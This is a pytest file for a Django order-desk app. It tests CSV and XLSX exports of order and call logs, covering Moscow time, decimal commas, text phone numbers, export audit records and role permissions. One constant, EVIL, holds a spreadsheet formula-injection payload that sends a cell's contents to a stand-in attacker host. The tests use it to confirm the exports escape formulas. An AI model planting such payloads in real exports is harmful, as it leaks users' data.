"""Exports that follow the filters on screen, CSV for a Russian Excel and typed XLSX."""

import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from orderdesk import exports
from orderdesk.models import ExportRecord
from orderdesk.roles import Role
from orders.models import Order
from tests.factories import CallFactory, ClientFactory, OrderFactory, make_staff

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.fixture
def head(client):
    from datetime import UTC

    user = make_staff(role=Role.HEAD)
    customer = ClientFactory(manager=user, name="Ромашка", phone="+74951000001")
    at = datetime(2026, 3, 9, 21, 30, tzinfo=UTC)
    CallFactory(
        client=customer,
        phone="+74951000001",
        started_at=at,
        ended_at=at + timedelta(seconds=95),
        notes=EVIL,
    )
    OrderFactory(
        client=customer,
        status=Order.Status.ACCEPTED,
        number="ЗК-0000001",
        accepted_at=at,
        delivery_date=date(2026, 3, 11),
        total=Decimal("12345.60"),
    )
    other = ClientFactory(manager=user, name="Лютик")
    CallFactory(client=other, started_at=at - timedelta(days=1))
    client.force_login(user)
    return user


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [line.split(";") for line in body.splitlines()]


def _xlsx(response):
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def test_order_log_csv_has_decimal_comma_and_moscow_time(client, head):
    rows = _csv(client.get(reverse("orders:order_log"), {"format": "csv"}))
    order = rows[1]
    assert order[0] == "ЗК-0000001"
    assert order[1] == "10.03.2026 00:30"  # 21:30 UTC on the 9th is past midnight in Moscow
    assert order[8] == "11.03.2026"
    assert order[9] == "12345,60"


def test_call_log_csv_has_the_phone_as_text_and_formulas_escaped(client, head):
    rows = _csv(client.get(reverse("calls:call_log"), {"format": "csv", "client": "Ромашка"}))
    assert len(rows) == 2  # the header and the one call of the filter
    call = rows[1]
    assert call[0] == "10.03.2026 00:30" and call[1] == "10.03.2026 00:31"
    assert call[3] == "8 (495) 100-00-01"  # not a number Excel would turn into 7,5E+10
    assert call[10] == "95"
    assert any(cell.strip('"').startswith("'=HYPERLINK") for cell in call)


def test_order_log_xlsx_reads_back_typed(client, head):
    sheet = _xlsx(client.get(reverse("orders:order_log"), {"format": "xlsx"}))
    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
    assert header[0].value == "Number" or header[0].value == "Номер"
    number, accepted, *_rest, delivery, total = row
    assert number.value == "ЗК-0000001" and number.data_type == "s"
    assert accepted.is_date and accepted.value == datetime(2026, 3, 10, 0, 30)
    assert accepted.number_format == exports.XLSX_DATETIME
    assert delivery.is_date and delivery.value.date() == date(2026, 3, 11)
    assert isinstance(total.value, int | float) and total.value == pytest.approx(12345.60)
    assert total.number_format == exports.XLSX_MONEY


def test_call_log_xlsx_phone_is_text_duration_a_number_no_formula(client, head):
    sheet = _xlsx(client.get(reverse("calls:call_log"), {"format": "xlsx", "client": "Ромашка"}))
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 1
    cells = rows[0]
    assert cells[0].is_date and cells[0].value == datetime(2026, 3, 10, 0, 30)
    assert cells[3].data_type == "s" and cells[3].value == "8 (495) 100-00-01"
    assert cells[10].value == 95 and cells[10].data_type == "n"
    assert cells[11].value == "'" + EVIL and cells[11].data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("url_name", ["calls:call_log", "orders:order_log"])
def test_xlsx_export_is_recorded_with_the_filters(client, head, url_name):
    client.get(reverse(url_name), {"format": "xlsx", "client": "Ромашка", "after": ""})
    record = ExportRecord.objects.get()
    assert (record.by, record.file_format, record.rows) == (head, "xlsx", 1)
    assert record.filters == {"client": "Ромашка"}


def test_a_list_too_long_for_xlsx_says_so_and_exports_nothing(client, head, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 1)
    response = client.get(reverse("calls:call_log"), {"format": "xlsx"}, follow=True)
    assert response.redirect_chain[0][0] == reverse("calls:call_log") + "?"
    assert "CSV" in response.content.decode()
    assert not ExportRecord.objects.exists()


@pytest.mark.parametrize("url_name", ["calls:call_log", "orders:order_log"])
def test_the_export_links_follow_the_filters_after_an_htmx_swap(client, head, url_name):
    # the page's own links carry no filter
    page = client.get(reverse(url_name)).content.decode()
    assert f'href="{reverse(url_name)}?format=csv"' in page
    # a filter change swaps the rows and sends the links again, out of band
    swap = client.get(reverse(url_name), {"client": "Ромашка"}, HTTP_HX_REQUEST="true")
    html = swap.content.decode()
    assert 'id="log-rows"' in html and "<html" not in html
    assert 'id="log-export" class="export-links" hx-swap-oob="true"' in html
    assert "client=%D0%A0%D0%BE%D0%BC%D0%B0%D1%88%D0%BA%D0%B0&amp;format=csv" in html
    assert "client=%D0%A0%D0%BE%D0%BC%D0%B0%D1%88%D0%BA%D0%B0&amp;format=xlsx" in html


def test_operators_cannot_export_xlsx(client):
    client.force_login(make_staff(role=Role.OPERATOR))
    assert client.get(reverse("calls:call_log"), {"format": "xlsx"}).status_code == 403
    assert not ExportRecord.objects.exists()
